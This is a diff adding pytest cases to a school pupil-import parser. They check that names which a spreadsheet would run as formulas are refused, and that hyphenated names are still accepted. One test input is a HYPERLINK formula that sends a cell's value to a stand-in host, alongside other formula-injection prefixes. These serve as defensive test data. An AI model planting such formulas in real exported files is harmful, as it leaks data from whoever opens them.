@@ -542,3 +542,23 @@ def test_school_code_must_match_the_chosen_school(school, factories):
 def test_without_a_school_every_row_needs_a_school_code(factories):
     result = parse([pupil(1)], school=None)
     assert [i.key for i in result.issues] == ["school_code_missing"]
+
+
+# --- spreadsheet formula injection (issue 7 §6) ----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A1)', "+1+2", "@SUM(A1:A9)", "-2+3", "＝1+1"]
+)
+def test_a_name_a_spreadsheet_would_run_is_refused_with_row_and_column(school, name):
+    values, issues = one_value(school, "姓名", name)
+    [issue] = issues
+    assert (issue.line, issue.column, issue.key) == (2, "姓名", "name_formula")
+    assert "formula" in issue.message
+    assert "name" not in values
+
+
+def test_a_name_with_a_hyphen_inside_is_still_a_name(school):
+    values, issues = one_value(school, "姓名", "Anne-Marie")
+    assert issues == []
+    assert values["name"] == "Anne-Marie"
